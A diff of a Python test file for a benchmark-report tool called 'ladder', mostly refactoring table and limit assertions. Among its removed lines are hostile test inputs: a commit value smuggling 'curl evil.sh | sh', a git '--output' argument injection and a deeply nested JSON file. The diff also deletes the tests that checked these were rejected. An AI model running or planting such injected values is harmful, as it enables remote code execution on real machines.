@@ -20,8 +20,9 @@ from conftest import ROOT
 
 from ladder.__main__ import main
 from ladder.commands import gather, page, report
+from ladder.commands.limits import LABELS
 from ladder.commands.results import read_climb
-from ladder.commands.tables import cells, known, titles
+from ladder.commands.tables import cells, columns
 from ladder.files import git
 from ladder.log import pairs_line, step_line, warmup_steps
 
@@ -51,7 +52,7 @@ def fabricate(folder, times, *, kind="climb", repeats=3, logged=None, failures=(
     warmup, losses = warmup_steps(run["steps"]), [11 - k / 4 for k in range(run["steps"])]
     facts = {
         "kind": kind, "started": "2026-11-21 10:00", "repeats": repeats, "failures": dict(failures),
-        "commit": "unknown",
+        "commit": run["commit"],
         "flags": [f"--steps={STEPS}"], "data": "/home/someone/texts", "peak_flops": 4e12,
         "peak_dtype": "bfloat16", "scripts": [f"{stem}.py" for stem in times],
         "system": "Linux", "cores": 2, "clocks": {}, "versions": {"torch": "2.13.0"},
@@ -140,7 +141,7 @@ def test_an_ablation_belongs_to_climbs_of_its_settings(make, tmp_path):
     assert [climb["ablation"] for climb in climbs] == [climbs[2], None, None, None, None]
     assert climbs[3]["id"] == f"{ABLATION.name}-2"  # two of one name have two addresses
     rows = climbs[4]["rungs"]
-    assert not any(row["base"] or row["beyond"] for row in rows)
+    assert climbs[4]["beyond"] is None and not any(row["base"] for row in rows)
     assert [row["said"] for row in rows] == ["", "−62.5 %", "+25.0 %", "+50.0 %"]
     assert [row["state"] for row in rows] == ["", "down", "up", "up"]
 
@@ -183,16 +184,11 @@ def test_diffs_are_of_the_scripts_as_measured(tmp_path, monkeypatch):
     assert kept[1]["source"] == "kept beside its logs"
     assert any(line.startswith("+") and "mallopt" in line for line in kept[1]["diff"])
     times = {"baseline": 20, "01_weight_tying": 19, "mine": 18}
-    commit = f"--output={tmp_path}/stolen"  # were it given to git
-    _, tying, mine = gathered(fabricate(tmp_path / "lost", times, commit=commit))["rungs"]
-    assert not list(tmp_path.glob("stolen*")) and tying["diff"]
-    assert tying["source"].startswith("as it is in this checkout now: what ran, commit --output")
-    assert mine["diff"] is None and mine["source"].startswith("the script is not here")
-    head = git("rev-parse", "--short=12", "HEAD").stdout.strip()
-    picture = fabricate(tmp_path / "picture", {"report-chart": 20}, commit=head)
-    text = (picture / "climb.json").read_text()
-    (picture / "climb.json").write_text(text.replace("report-chart.py", "docs/report-chart.png"))
-    assert gathered(picture)["rungs"][0]["source"].startswith("the script is not here")
+    lost = fabricate(tmp_path / "lost", times, commit="0123456789ab")
+    _, tying, mine = gathered(lost)["rungs"]
+    assert tying["source"].startswith("as it is in this checkout now: what ran, commit 0123456789")
+    assert tying["diff"] and mine["diff"] is None
+    assert mine["source"].startswith("the script is not here")
     # Of an ablation whose scripts are not kept they are made again.
     monkeypatch.setattr(gather, "source_at", lambda *words: f"asked = {words}\n")
     times = {"10_fused_adamw": 10, "without_05_torch_compile": 11}
@@ -212,7 +208,6 @@ def test_a_profile_is_shown_where_device_versions_and_sizes_are_the_same(tmp_pat
     text = (EXAMPLES / "10_fused_adamw.json").read_text().replace("2e93aea66793", "d2d72edfc0b7")
     (own / "10_fused_adamw.json").write_text(text)
     (own / "list.json").write_text("[1]")
-    (own / "deep.json").write_text("[" * 100_000)
     os.mkfifo(own / "fifo.json")
     assert "commit d2d72edfc0b7" in gather.gather(CLIMB)["rungs"][-1]["profile"]["from"]
     other = fabricate(tmp_path / "other", {"baseline": 20, "10_fused_adamw": 10})
@@ -237,8 +232,6 @@ def test_the_foot_says_how_to_measure_it_again(tmp_path):
         "ladder peers --repeats 3 --steps=9 --data topics",
         "ladder climb --fit --memory 2.5 0 --repeats 3 --steps=9 --data topics",
     ]
-    hostile = fabricate(tmp_path / "hostile", {"baseline": 2}, commit="HEAD; curl evil.sh | sh #")
-    assert "curl" not in gathered(hostile)["foot"]["Again"]
     assert feet[0]["Clocks"] == "before: 2596 MHz, 2596 MHz, after: 2596 MHz, 2596 MHz"
     assert feet[0]["Steps"] == "3 for warm-up, left out; 6 measured in each run"
     assert feet[3]["Not finished"] == "4 of 6 runs are in" and not feet[0]["Not finished"]
@@ -259,7 +252,7 @@ def test_long_logs_are_cut(make, tmp_path):
 
 def test_what_is_no_climb(make, tmp_path, monkeypatch):
     """What a log may hold is tested with what is not fit to be published."""
-    for name, of in (("bare", "climb.json"), ("cut", "baseline.r1.log"), ("fifo", "baseline.py")):
+    for name, of in (("bare", "climb.json"), ("cut", "baseline.r1.log"), ("fifo", "climb.json")):
         path = fabricate(tmp_path / name, {"baseline": 2}) / of
         path.write_text("") if name == "cut" else path.unlink(missing_ok=True)
         os.mkfifo(path) if name == "fifo" else None
@@ -418,8 +411,8 @@ def test_bars_and_marks_are_as_their_numbers(browser):
     assert sorted(range(10), key=dots.__getitem__) == sorted(range(10), key=ratios.__getitem__)
     assert len(browser.shown(".mark.alone .dot")) == 10
     table = browser.each("tbody tr", "[...one.cells].map((cell) => cell.textContent.trim())")
-    rows = read_climb(CLIMB)[1]
-    assert table == [known(rows, cells(row, titles())) for row in rows]
+    facts, rows = read_climb(CLIMB)
+    assert table == [[cells(row)[name] for name in columns(facts, rows)] for row in rows]
 
 
 def test_a_limit_is_a_mark_on_its_bar_and_its_parts_are_told(browser):
@@ -436,8 +429,8 @@ def test_a_limit_is_a_mark_on_its_bar_and_its_parts_are_told(browser):
     row = rungs[0]["row"]
     assert right / width == pytest.approx(row.ms / sum(row.limit), rel=0.02)
     (text,) = (one.text for one in browser.shown(".rung > div"))
-    parts = " ".join(f"{name} {ms:.1f} ms" for name, ms in rungs[0]["limit"]["parts"].items())
-    assert f"limit {sum(row.limit):.1f} ms {parts}" in " ".join(text.split())
+    parts = [f"{name} {ms:.1f} ms" for name, ms in zip(LABELS, row.limit, strict=True)]
+    assert f"limit {sum(row.limit):.1f} ms {' '.join(parts)}" in " ".join(text.split())
     table = browser.each("table th, tbody td:nth-child(8)", "one.textContent.trim()")
     assert table[7] == "of its limit" and table[-3:] == ["84%", "20%", "unknown"]
     assert "limit of the rung" in browser.shown(".legend")[0].text
@@ -463,8 +456,8 @@ def test_a_rung_opens_by_mouse_keyboard_and_address(browser):
     for words in (
         "Change: the optimizer updates all parameters in one fused kernel.",
         "optimizer: fused",
-        gathered(CLIMB)["rungs"][10]["cells"][4],
-        f"Left out of 10 fused AdamW alone: {gathered(ABLATION)['rungs'][10]['cells'][4]}",
+        gathered(CLIMB)["rungs"][10]["cells"]["gain"],
+        f"Left out of 10 fused AdamW alone: {gathered(ABLATION)['rungs'][10]['cells']['gain']}",
         "Both scripts at commit d2d72edfc0b7.",
         f"logs/{PROFILE.name}, commit 503d992a5313",
         f"aten::mm {kernel['ms']:.1f} {kernel['share']:.1%} {kernel['calls']}",
